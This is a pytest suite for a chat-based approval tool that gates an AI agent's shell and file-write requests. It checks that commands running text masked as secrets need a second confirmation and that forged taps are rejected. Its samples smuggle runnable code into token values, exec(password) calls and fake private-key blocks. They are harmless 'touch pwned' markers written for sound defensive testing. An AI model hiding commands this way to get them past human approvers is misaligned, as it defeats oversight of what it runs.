@pytest.mark.parametrize("command", END_TO_END)
def test_hidden_text_that_runs_is_allowed_by_two_taps_and_by_nothing_else(
    office: World, command: str, den: Path
) -> None:
    """No single tap, no "y" from a watch and no list allows it; the second tap does, and then bash runs it."""
    caller = office.ask(event_bytes(tool_input={"command": command}))
    card = office.open_card("Runs text that is hidden here")
    assert "Allow" not in labels(card) and "Allow…" in labels(card)
    office.reply("y", card)
    office.until(lambda: any("A yes is not enough here" in one["text"] for one in office.cards()))
    assert caller.poll() is None
    office.tap(card, "Allow…")
    asking = office.says(card, "Really?")
    assert caller.poll() is None
    office.tap(asking, "Yes: Allow")
    decision = json.loads(finish(caller)[0])["hookSpecificOutput"]["decision"]
    assert decision["behavior"] == "allow"
    subprocess.run(["bash", "-c", command], cwd=den, capture_output=True, timeout=60, check=False)
    assert (den / "pwned").exists()


def test_what_is_shown_in_the_clear_takes_one_tap(office: World) -> None:
    """Under a mere name, what could be run is not hidden at all."""
    caller = office.ask(event_bytes(tool_input={"command": "API_TOKEN='touch pwned'; sh -c \"$API_TOKEN\""}))
    card = office.open_card("API_TOKEN='touch pwned'")
    office.tap(card, "Allow")
    assert b'"allow"' in finish(caller)[0]


def test_a_lasting_permission_for_hidden_text_takes_a_second_tap(office: World) -> None:
    """Neither does a rule that would last come from one tap."""
    caller = office.ask(event_bytes(tool_input={"command": END_TO_END[0]}))
    card = office.open_card("Runs text that is hidden here")
    lasting = next(label for label in labels(card) if "npm test" in label)
    office.tap(card, lasting)
    office.says(card, "This would last beyond this one call")
    assert caller.poll() is None
    office.tap(again(office, card), "Deny")
    finish(caller)


def test_hidden_text_is_never_in_a_batch(office: World) -> None:
    """Of three Writes of one session, the one that runs its hidden password is not among those allowed together."""
    contents = ("a = 1\n", "b = 2\n", "password = 'Qx9zKp2mW7'\nexec(password)\n")
    callers = []
    for number, content in enumerate(contents):
        fields = {"file_path": f"/home/dev/shop/{number}.py", "content": content}
        callers.append(office.ask(event_bytes(tool="Write", tool_input=fields, suggestions=())))
        office.open_card(f"{number}.py")
    card = office.until(lambda: [one for one in office.cards() if "Allow these 2…" in labels(one)])[0]
    risky = office.open_card("exec(password)")
    assert "Runs text that is hidden here" in risky["text"]
    assert not any(label.startswith("Allow these") for label in labels(risky))
    office.tap(card, "Allow these 2…")
    office.tap(office.says(card, "Allow these 2 together?"), "Allow all 2")
    for caller in callers[:2]:
        assert b'"allow"' in finish(caller)[0]
    assert callers[2].poll() is None


def test_an_edited_command_with_hidden_text_takes_a_second_tap(office: World) -> None:
    """What a person typed is judged like what the agent sent."""
    caller = office.ask(event_bytes(tool_input={"command": "ls"}))
    card = office.open_card("ls")
    office.tap(card, "Edit…")
    office.reply(END_TO_END[0], office.prompt())
    edited = office.says(card, "Runs text that is hidden here")
    assert "Run it as edited…" in labels(edited) and "Run it as edited" not in labels(edited)
    office.tap(edited, "Run it as edited…")
    asking = office.says(card, "Really?")
    assert "Changed by Ada" in asking["text"] and "DB_PASSWORD" in asking["text"]
    assert caller.poll() is None
    office.tap(asking, "Yes: Run it as edited")
    decision = json.loads(finish(caller)[0])["hookSpecificOutput"]["decision"]
    assert decision["updatedInput"]["command"] == END_TO_END[0]


def test_only_an_owner_is_shown_what_is_hidden(office: World) -> None:
    """A key block is more than one token: an owner may have it sent, an approver may not, also by a forged tap."""
    block = f": -----BEGIN PRIVATE KEY-----\n{KEY_PROGRAM}\n{KEY_PROGRAM[::-1]}\n: -----END PRIVATE KEY-----"
    caller = office.ask(event_bytes(tool_input={"command": f"sh <<X\n{block}\nX"}))
    card = office.open_card("Runs text that is hidden here")
    theirs = office.open_card("Runs text that is hidden here", chat_id=LINUS)
    assert KEY_PROGRAM not in card["text"]
    assert "Show hidden" in labels(card) and "Show hidden" not in labels(theirs)
    data = next(button["callback_data"] for row in card["buttons"] for button in row if button["text"] == "Show hidden")
    forged = office.tap(theirs, data=data, user_id=LINUS, chat_id=LINUS, forge=True)
    assert office.answer(forged) == "What is hidden here is for an owner to see."
    office.tap(card, "Show hidden")
    sent = office.until(lambda: [one for one in office.cards() if KEY_PROGRAM in one["text"]])[0]
    assert "Hidden on this card, here in the clear" in sent["text"] and sent["buttons"] == []
    assert all(KEY_PROGRAM not in one["text"] for one in office.cards(LINUS))
    assert caller.poll() is None


def test_one_opaque_token_is_never_sent(office: World) -> None:
    """A real password that is used again is named, but not shown to anybody."""
    office.ask(event_bytes(tool_input={"command": END_TO_END[0]}))
    assert "Show hidden" not in labels(office.open_card("Runs text that is hidden here"))


def test_the_file_with_all_of_it_hides_no_program_that_runs(office: World) -> None:
    """An apostrophe in a small fact above the command does not turn the command's quotes inside out."""
    lines = "\n".join(f"echo line number {number} of a long script that builds things" for number in range(80))
    command = f"{lines}\n: -----BEGIN PRIVATE KEY-----\n{KEY_PROGRAM}\n: -----END PRIVATE KEY-----\necho done"
    office.ask(event_bytes(suggestions=(), tool_input={"command": command, "note": "it's"}))
    card = office.open_card()
    assert KEY_PROGRAM not in card["text"] and "hidden" not in card["text"]
    office.tap(card, "Show all of it")
    file = office.until(lambda: [one for one in office.cards() if one.get("document")])[-1]
    assert KEY_PROGRAM in office.http.get(file["document"]["url"]).text


def test_one_tap_does_not_allow_a_push_whose_branch_is_hidden(office: World) -> None:
    """The branch stands on the card that the tap allows."""
    caller = office.ask(event_bytes(suggestions=(), tool_input={"command": "git push origin -u HEAD:production"}))
    card = office.open_card("HEAD:production")
    office.tap(card, "Allow")
    assert b'"allow"' in finish(caller)[0]


def test_a_restart_forgets_neither_the_risk_nor_the_second_tap(office: World) -> None:
    """The next run names the same risk from the request alone."""
    caller = office.ask(event_bytes(tool_input={"command": END_TO_END[0]}))
    card = office.open_card("Runs text that is hidden here")
    office.stop_daemon(signal.SIGKILL)
    office.start_daemon()
    office.tap(card, "Allow…")
    asking = office.says(card, "Really?")
    assert caller.poll() is None
    office.tap(asking, "Yes: Allow")
    assert b'"allow"' in finish(caller)[0]


def test_without_masks_nothing_is_hidden_and_no_such_risk_is_named() -> None:
    """Whoever turned masks off sees all of it, so there is nothing to name."""
    with new_world() as world:
        world.configure(more="[privacy]\nmask = false\n")
        world.start_daemon()
        world.ask(event_bytes(tool_input={"command": END_TO_END[0]}))
        card = world.open_card("DB_PASSWORD=Qx9zKp2mW7")
        assert "hidden" not in card["text"] and "Allow" in labels(card)
